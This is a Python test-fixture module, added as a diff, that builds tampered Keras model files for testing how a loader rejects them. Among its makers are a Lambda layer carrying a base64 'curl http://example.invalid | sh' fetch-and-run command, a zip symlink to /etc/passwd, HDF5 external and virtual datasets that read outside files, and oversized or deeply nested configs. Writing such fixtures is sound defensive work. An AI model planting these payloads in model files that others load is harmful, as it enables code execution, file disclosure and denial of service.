@@ -1,0 +1,258 @@
+"""Ways to make a model file that is not as it should be.
+
+A maker writes a file at a path; `sound(path)` is a model that Keras itself saved, which most of the others change.
+"""
+
+import io
+import json
+import struct
+import zipfile
+from collections.abc import Callable
+from functools import cache
+from pathlib import Path
+from typing import Any
+
+import h5py
+import numpy as np
+
+CODE = "Y3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkIHwgc2g="  # stands for marshalled Python
+
+
+@cache
+def _saved(suffix: str) -> bytes:
+    import keras
+
+    layers = keras.layers
+    model = keras.Sequential(
+        [keras.Input((16, 16, 3)), layers.Conv2D(4, 3), layers.Flatten(), layers.Dense(2, activation="softmax")]
+    )
+    model.compile("rmsprop", "categorical_crossentropy")
+    path = Path(f"{__file__}.{suffix}")
+    try:
+        model.save(path)
+        return path.read_bytes()
+    finally:
+        path.unlink(missing_ok=True)
+
+
+def sound(path: Path) -> None:
+    path.write_bytes(_saved(path.suffix.lstrip(".")))
+
+
+def h5_config(change: Callable[[dict[str, Any]], None]) -> Callable[[Path], None]:
+    """Changes the configuration of a sound .h5; the layers are at 0 input, 1 convolution, 2 flatten, 3 dense."""
+
+    def make(path: Path) -> None:
+        sound(path)
+        with h5py.File(path, "r+") as file:
+            config = json.loads(file.attrs["model_config"])
+            change(config["config"])
+            file.attrs["model_config"] = json.dumps(config)
+
+    return make
+
+
+def keras_config(change: Callable[[dict[str, Any]], None]) -> Callable[[Path], None]:
+    """Changes config.json of a sound .keras."""
+
+    def edit(members: dict[str, bytes]) -> None:
+        config = json.loads(members["config.json"])
+        change(config)
+        members["config.json"] = json.dumps(config).encode()
+
+    return archive(edit)
+
+
+def archive(edit: Callable[[dict[str, bytes]], None], how: int = zipfile.ZIP_STORED) -> Callable[[Path], None]:
+    """Changes the members of a sound .keras."""
+
+    def make(path: Path) -> None:
+        with zipfile.ZipFile(io.BytesIO(_saved("keras"))) as old:
+            members = {name: old.read(name) for name in old.namelist()}
+        edit(members)
+        with zipfile.ZipFile(path, "w", how) as new:
+            for name, content in members.items():
+                new.writestr(name, content)
+
+    return make
+
+
+def h5_file(edit: Callable[[h5py.File, Path], None]) -> Callable[[Path], None]:
+    """Changes the groups of a sound .h5."""
+
+    def make(path: Path) -> None:
+        sound(path)
+        with h5py.File(path, "r+") as file:
+            edit(file, path)
+
+    return make
+
+
+def layer(**fields: Any) -> Callable[[dict[str, Any]], None]:
+    """Puts another layer in place of flatten."""
+
+    def change(config: dict[str, Any]) -> None:
+        layers = config.get("config", config)["layers"]
+        layers[2] = layers[2] | fields
+
+    return change
+
+
+def setting(number: int, **fields: Any) -> Callable[[dict[str, Any]], None]:
+    """Changes settings of a layer."""
+
+    def change(config: dict[str, Any]) -> None:
+        config.get("config", config)["layers"][number]["config"] |= fields
+
+    return change
+
+
+def compiled(**fields: Any) -> Callable[[dict[str, Any]], None]:
+    def change(config: dict[str, Any]) -> None:
+        config["compile_config"] |= fields
+
+    return change
+
+
+def function(name: str, module: str) -> dict[str, Any]:
+    return {"module": module, "class_name": "function", "config": name, "registered_name": name}
+
+
+def lambda_of(keras: int) -> dict[str, Any]:
+    code = [CODE, None, None] if keras == 2 else {"class_name": "__lambda__", "config": {"value": {"code": CODE}}}
+    return {"name": "harmless", "function": code, "function_type": "lambda", "arguments": {}}
+
+
+def nested_calls(levels: int, calls: int) -> Callable[[dict[str, Any]], None]:
+    """Puts a model into a model that calls it often, and that into another ..."""
+
+    def change(config: dict[str, Any]) -> None:
+        inner: dict[str, Any] = {"class_name": "Flatten", "config": {"name": "leaf"}, "name": "leaf"}
+        for level in range(levels):
+            nodes = [[["in", 0, 0, {}]] for _ in range(calls)]
+            first = {"class_name": "InputLayer", "name": "in", "inbound_nodes": []}
+            first["config"] = {"batch_shape": [None, 4], "name": "in"}
+            model = {"name": f"m{level}", "layers": [first, inner | {"inbound_nodes": nodes}]}
+            model |= {"input_layers": [["in", 0, 0]], "output_layers": [[inner["name"], 0, 0]]}
+            inner = {"class_name": "Functional", "name": f"m{level}", "config": model}
+        config["layers"][2] = inner
+
+    return change
+
+
+def deep(levels: int) -> Callable[[dict[str, Any]], None]:
+    def change(config: dict[str, Any]) -> None:
+        value: Any = 1
+        for _ in range(levels):
+            value = [value]
+        config["deep"] = value
+
+    return change
+
+
+def raw_config(text: str) -> Callable[[Path], None]:
+    def make(path: Path) -> None:
+        sound(path)
+        with h5py.File(path, "r+") as file:
+            del file.attrs["model_config"]
+            file.attrs.create("model_config", text, dtype=h5py.string_dtype())
+
+    return make
+
+
+def other_h5(path: Path) -> Path:
+    """Writes the file that links lead to."""
+    other = path.with_name("secret.h5")
+    with h5py.File(other, "w") as file:
+        file["kernel"] = np.full((3, 3, 3, 4), 7.0, "f4")
+        file.create_group("conv2d")
+    return other
+
+
+def replaced(file: h5py.File, link: Any) -> None:
+    """Puts a link in place of the convolution's kernel."""
+    name = next(name for name in _names(file) if name.endswith("kernel") and "conv" in name)
+    del file[name]
+    file[name] = link
+
+
+def _names(file: h5py.File) -> list[str]:
+    names: list[str] = []
+    file.visit(names.append)
+    return names
+
+
+def with_filter(number: int) -> Callable[[h5py.File, Path], None]:
+    def edit(file: h5py.File, path: Path) -> None:
+        plan = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
+        plan.set_chunk((4,))
+        plan.set_filter(number, h5py.h5z.FLAG_OPTIONAL, (4,))
+        space = h5py.h5s.create_simple((8,))
+        h5py.h5d.create(file.id, b"extra", h5py.h5t.IEEE_F32LE, space, plan)
+
+    return edit
+
+
+def external_storage(file: h5py.File, path: Path) -> None:
+    other = path.with_name("secret.raw")
+    other.write_bytes(b"\x07" * 4096)
+    file.create_dataset("extra", (64,), "f4", external=[(str(other), 0, h5py.h5f.UNLIMITED)])
+
+
+def virtual(file: h5py.File, path: Path) -> None:
+    layout = h5py.VirtualLayout((3, 3, 3, 4), "f4")
+    layout[...] = h5py.VirtualSource(str(other_h5(path)), "kernel", (3, 3, 3, 4))
+    file.create_virtual_dataset("extra", layout)
+
+
+def many_groups(count: int) -> Callable[[h5py.File, Path], None]:
+    def edit(file: h5py.File, path: Path) -> None:
+        group = file.create_group("many")
+        for i in range(count):
+            group[str(i)] = file["model_weights"]
+
+    return edit
+
+
+def big_array(shape: tuple[int, ...], **how: Any) -> Callable[[h5py.File, Path], None]:
+    def edit(file: h5py.File, path: Path) -> None:
+        data = file.create_dataset("extra", shape, "f4", chunks=(1 << 16, *(1 for _ in shape[1:])), **how)
+        if how:
+            data[...] = np.zeros(shape, "f4")
+
+    return edit
+
+
+def flag_encrypted(path: Path) -> None:
+    sound(path)
+    content = bytearray(path.read_bytes())
+    at = content.index(b"PK\x01\x02")
+    content[at + 8] |= 1
+    path.write_bytes(content)
+
+
+def twice(path: Path) -> None:
+    sound(path)
+    with zipfile.ZipFile(path, "a") as file, __import__("warnings").catch_warnings(action="ignore"):
+        file.writestr("config.json", json.dumps({"class_name": "Lambda", "config": {}}))
+
+
+def symlink(path: Path) -> None:
+    sound(path)
+    member = zipfile.ZipInfo("assets/link")
+    member.external_attr = 0o120777 << 16
+    with zipfile.ZipFile(path, "a") as file:
+        file.writestr(member, "/etc/passwd")
+
+
+def moved_header(path: Path) -> None:
+    sound(path)
+    content = bytearray(path.read_bytes())
+    at = content.rindex(b"PK\x01\x02")
+    content[at + 42 : at + 46] = struct.pack("<I", 7)
+    path.write_bytes(content)
+
+
+def in_front(path: Path) -> None:
+    sound(path)
+    path.write_bytes(b"#!/bin/sh\nexit 1\n" + path.read_bytes())
